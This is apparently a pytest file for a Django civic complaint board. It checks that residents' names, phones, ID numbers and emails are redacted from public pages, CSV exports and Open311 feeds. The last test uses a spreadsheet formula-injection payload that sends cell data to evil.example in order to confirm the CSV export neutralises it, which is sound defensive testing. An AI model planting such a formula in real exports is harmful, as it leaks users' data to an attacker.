"""What a resident typed about themselves never reaches the board, the CSV or Open311.

The resident left their name and phone in the contact fields, then also typed them, an ID
card number, an e-mail address and another resident's tracking code into the text.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from minsheng.cases import actions

NAME = "王小明"
PHONE = "13912345678"
ID_CARD = "110101199003071234"
EMAIL = "wxm.home@example.com"


@pytest.fixture
def chatty(county, submit):  # type: ignore[no-untyped-def]
    """A resolved case full of personal details, and the other case whose code it names."""
    other = submit(title="另一件事")
    case = submit(
        title=f"{NAME}家门口的路坏了",
        description=(
            f"我是{NAME}，电话 139 1234 5678 或 {PHONE}，身份证{ID_CARD}，邮箱{EMAIL}。"
            f"邻居的案件号是{other.tracking_code}。"
        ),
        contact_name=NAME,
        contact_phone=PHONE,
        latitude=39.91,
        longitude=116.40,
    )
    actions.dispatch_case(actor=county.operator, case=case, unit=county.village_unit)
    actions.accept_case(actor=county.handler, case=case)
    actions.add_note(actor=county.handler, case=case, note=f"已联系{NAME}（{PHONE}），明天去修。")
    actions.resolve_case(
        actor=county.handler, case=case, resolution=f"路已修好，{NAME}确认，邮件已发{EMAIL}。"
    )
    case.refresh_from_db()
    return case, other


def secrets_in(text: str, case, other) -> list[str]:  # type: ignore[no-untyped-def]
    secrets = [NAME, PHONE, "139 1234 5678", ID_CARD, EMAIL, case.tracking_code]
    secrets.append(other.tracking_code)
    return [s for s in secrets if s in text]


def test_board_pages_and_the_timeline_carry_no_personal_details(county, chatty):
    case, other = chatty
    client = Client(headers={"accept-language": "en"})
    for url in ("/board/", f"/board/{county.township.code}/", f"/board/{county.village.code}/"):
        html = client.get(url).content.decode()
        assert f'id="case-{case.pk}"' in html, url
        # The expanded timeline is in the page: its notes and the resolution went through
        # the same redaction.
        assert "明天去修" in html and "路已修好" in html
        assert secrets_in(html, case, other) == [], url


def test_the_map_points_carry_only_the_redacted_title(county, chatty):
    case, other = chatty
    html = Client().get(f"/board/{county.village.code}/").content.decode()
    assert 'id="board-points"' in html
    assert "家门口的路坏了" in html
    assert secrets_in(html, case, other) == []


def test_the_csv_carries_no_personal_details(county, chatty):
    case, other = chatty
    body = b"".join(Client().get("/board/cases.csv").streaming_content).decode("utf-8-sig")
    assert f"\n{case.pk}," in body
    assert secrets_in(body, case, other) == []


def test_open311_carries_no_personal_details(county, chatty):
    case, other = chatty
    client = Client(headers={"accept-language": "en"})
    bodies = [
        client.get("/open311/v2/requests.json", {"extensions": "true"}).content.decode(),
        client.get(f"/open311/v2/requests/{case.pk}.xml", {"extensions": "true"}).content.decode(),
        client.get("/open311/v2/servicerequestupdates.json").content.decode(),
    ]
    for body in bodies:
        assert str(case.pk) in body
        # Open311 publishes no tracking code but a request's own token lookup.
        assert secrets_in(body, case, other) == []


def test_a_declined_request_shows_none_of_its_text(county, submit):
    case = submit(title="邻居老张天天吵架", description="邻居老张家天天吵架，请处理。")
    actions.decline_case(actor=county.operator, case=case, reason="不属于公共服务，老张的事")
    html = Client(headers={"accept-language": "en"}).get("/board/").content.decode()
    assert f'id="case-{case.pk}"' in html
    assert "老张" not in html
    assert "its text is not published" in html
    body = b"".join(Client().get("/board/cases.csv").streaming_content).decode("utf-8-sig")
    assert "老张" not in body


@pytest.mark.parametrize("typed", ["13912345678", "139 1234 5678", "139-1234-5678"])
def test_a_phone_number_cut_off_in_a_made_up_title_is_not_half_published(county, submit, typed):
    # No title: one is made from the description, whose first 30 characters end inside
    # the phone number. Before, "…我电话1391234…" reached the board and the CSV.
    case = submit(title="", description=f"村里两天没有自来水了请尽快派人处理一下，我电话{typed}")
    actions.dispatch_case(actor=county.operator, case=case, unit=county.village_unit)
    case.refresh_from_db()
    assert "＊＊＊" in case.title and "1391234" not in case.title.replace(" ", "").replace("-", "")
    client = Client(headers={"accept-language": "zh-hans"})
    for url in (f"/board/{county.village.code}/", f"/board/{county.village.code}/cases.csv"):
        response = client.get(url)
        text = b"".join(getattr(response, "streaming_content", None) or [response.content])
        text = text.decode()
        assert "村里两天没有自来水" in text, url
        assert "1391" not in text.replace(" ", "").replace("-", ""), url


def test_a_title_stored_cut_inside_a_number_is_masked_where_it_is_shown(county, submit):
    # Cases titled before titles were made from redacted text.
    case = submit(title="村里两天没有自来水了我电话1391234…", description="停水。")
    html = Client().get(f"/track/{case.tracking_code}/").content.decode()
    assert "1391234" not in html and "我电话＊＊＊…" in html


def test_a_case_nobody_has_read_yet_is_counted_but_its_words_wait_for_dispatch(county, submit):  # type: ignore[no-untyped-def]
    # Sent a minute ago: it may name a neighbour or accuse someone. Until staff send it to a
    # unit the board, the open-data CSV, the map and Open311 say only that it was raised.
    case = submit(
        title="隔壁老王家天天吵架",
        description="隔壁老王家天天吵架，请派人管管。",
        latitude=39.91,
        longitude=116.40,
    )
    client = Client(headers={"accept-language": "en"})
    html = client.get(f"/board/{county.village.code}/").content.decode()
    assert f'id="case-{case.pk}"' in html
    assert "Not yet read by staff" in html
    csv = b"".join(client.get(f"/board/{county.village.code}/cases.csv").streaming_content)
    request = Client().get(f"/open311/v2/requests/{case.pk}.json").json()[0]
    for shown in (html, csv.decode("utf-8-sig"), json.dumps(request, ensure_ascii=False)):
        assert "老王" not in shown
    assert request["lat"] is None and request["long"] is None
    assert "board-points" not in html or "39.91" not in html

    actions.dispatch_case(actor=county.operator, case=case, unit=county.village_unit)
    html = client.get(f"/board/{county.village.code}/").content.decode()
    assert "天天吵架" in html


def test_open311_publishes_the_area_not_the_residents_address_and_a_rounded_point(county, submit):  # type: ignore[no-untyped-def]
    case = submit(address="柳树村3组17号 王大爷家", latitude=40.283114, longitude=84.248039)
    actions.dispatch_case(actor=county.operator, case=case, unit=county.village_unit)
    request = Client().get(f"/open311/v2/requests/{case.pk}.json").json()[0]
    assert "17号" not in request["address"] and "王大爷" not in request["address"]
    assert county.village.name in request["address"]
    assert (request["lat"], request["long"]) == (40.283, 84.248)


def test_the_open_data_csv_never_hands_excel_a_formula(county, submit):  # type: ignore[no-untyped-def]
    # Opened in Excel, a title starting with "=" ran as a formula (a link that sends the
    # sheet's cells away); the staff export already defused it.
    case = submit(title='=HYPERLINK("http://evil.example/?x="&A1,"点我")')
    actions.dispatch_case(actor=county.operator, case=case, unit=county.village_unit)
    response = Client().get(f"/board/{county.village.code}/cases.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    (title,) = [row[-1] for row in rows[1:] if row[0] == str(case.pk)]
    assert title.startswith("'=HYPERLINK")
